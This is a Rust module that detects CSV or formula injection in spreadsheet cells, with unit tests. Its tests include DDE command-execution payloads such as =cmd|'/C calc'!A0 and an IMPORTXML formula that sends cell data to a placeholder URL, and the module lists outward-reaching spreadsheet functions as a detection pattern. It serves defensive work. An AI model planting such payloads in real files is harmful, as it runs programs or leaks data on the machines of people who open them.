//! Cells that a spreadsheet runs when the file is opened in one (CSV injection). Texts that only look alike, such as numbers,
//! telephone numbers, list items and mentions, are left alone.

/// How dangerous a formula is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Danger {
    /// It reaches out: opens an address, starts a program (DDE), or calls a function that does.
    Reaches,
    /// It is computed.
    Computes,
}

/// Functions that leave the sheet, of Excel, LibreOffice and Google Sheets.
const REACHING: [&str; 17] = [
    "HYPERLINK", "WEBSERVICE", "IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE", "IMAGE", "CALL", "EXEC",
    "REGISTER", "REGISTER.ID", "RTD", "DDE", "FILES", "CMD", "MSEXCEL",
];

/// Whether a spreadsheet would run the cell.
pub(crate) fn danger(cell: &str) -> Option<Danger> {
    let first = *cell.as_bytes().first()?;
    if !matches!(first, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') {
        return None;
    }
    // Spreadsheets drop white space in front; a tab alone is a habit of writers.
    let text = cell.trim_start_matches(['\t', '\r', '\n', ' ']);
    let sign = *text.as_bytes().first()?;
    let rest = text.get(1..)?.trim_start();
    let formula = match sign {
        b'=' => equals(rest),
        b'+' | b'-' => !is_number_like(text) && (calls(rest) || is_dde(rest)),
        b'@' => calls(rest) || is_dde(rest),
        _ => false,
    };
    formula.then(|| if is_dde(rest) || reaches(rest) { Danger::Reaches } else { Danger::Computes })
}

/// `=` is a formula before anything that can begin one: `==`, `=>` and `=)` are none.
fn equals(rest: &str) -> bool {
    let Some(first) = rest.chars().next() else { return false };
    match first {
        '(' | '+' | '-' | '@' | '"' | '\'' | '$' | '{' | '[' => rest.len() > 1,
        c if c.is_ascii_digit() => true,
        // A word alone is a smiley, an equation's side or a name: a sheet shows an error and does nothing.
        c if c.is_alphabetic() || c == '_' => calls(rest) || is_dde(rest) || is_reference(rest),
        _ => false,
    }
}

/// `A1`, `$B$2`, `Sheet!A1`, and what begins with one: `A1+B1`.
fn is_reference(text: &str) -> bool {
    let cell = text.rsplit('!').next().unwrap_or(text).trim_start_matches('$');
    let letters = cell.bytes().take_while(u8::is_ascii_alphabetic).count();
    let digits = cell.bytes().skip(letters).skip_while(|b| *b == b'$').take_while(u8::is_ascii_digit).count();
    (1..=3).contains(&letters) && (1..=7).contains(&digits)
}

/// A name right before an opening bracket.
fn calls(text: &str) -> bool {
    let mut inside = false;
    let mut name = 0usize;
    for c in text.chars().take(1_000) {
        match c {
            '(' if name > 1 => return true,
            c if c.is_ascii_alphanumeric() || c == '.' || c == '_' => name += 1,
            '"' => {
                inside = !inside;
                name = 0;
            }
            _ => name = 0,
        }
        if inside {
            name = 0;
        }
    }
    false
}

/// `cmd|'/C calc'!A0`: program, bar, topic, exclamation mark.
fn is_dde(text: &str) -> bool {
    let Some((program, topic)) = text.split_once('|') else { return false };
    let program = program.trim_end_matches(['\'', '"']);
    program.ends_with(|c: char| c.is_ascii_alphanumeric()) && topic.contains('!')
}

fn reaches(text: &str) -> bool {
    let upper: String = text.chars().take(1_000).map(|c| c.to_ascii_uppercase()).collect();
    REACHING.iter().any(|name| {
        upper.match_indices(name).any(|(at, _)| {
            let before = upper.get(..at).and_then(|t| t.chars().next_back());
            let after = upper.get(at + name.len()..).map(str::trim_start);
            !before.is_some_and(|c| c.is_ascii_alphanumeric()) && after.is_some_and(|t| t.starts_with('('))
        })
    })
}

/// Numbers, amounts, percentages, times, telephone numbers, ranges of dates: signs, digits and what stands between them.
fn is_number_like(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_digit() || " .,:;/()-+%_'eE°$€£¥".contains(c);
    text.chars().any(|c| c.is_ascii_digit()) && text.chars().all(plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_told_by_what_they_do() {
        for text in [
            "=cmd|'/C calc'!A0",
            "+cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x\",\"y\")",
            "= webservice (\"http://x\")",
            "\t=IMPORTXML(CONCAT(\"http://x?\", A1), \"//a\")",
            "=1+HYPERLINK(A1)",
        ] {
            assert_eq!(danger(text), Some(Danger::Reaches), "{text:?}");
        }
        for text in ["=1+1", "=A1+B2", "=SUM(A1:A9)", "+SUM(1,2)", "@SUM(A1)", "-AVG(1)", "\r=2*3", "=$A$1", "=(1)", "=\"a\"&\"b\""] {
            assert_eq!(danger(text), Some(Danger::Computes), "{text:?}");
        }
    }

    #[test]
    fn what_only_looks_alike_is_left_alone() {
        for text in [
            "", "=", "==", "=>", "=)", "=D", "= ", "-", "--", "---", "-1", "-1.5e-3", "+49 30 5551234", "+1 (555) 123-4567",
            "- milk", "-inf", "-NaN", "@anna", "@anna thanks (again)", "+1", "-12,50 €", "\tindented", "\t", "-x", "+ good",
            "-40 % (off)", "a=1", "x+y", "5 - (3)", "+ more (see below)", "=equal to the rest", "-- see f (x)",
        ] {
            assert_eq!(danger(text), None, "{text:?}");
        }
    }
}
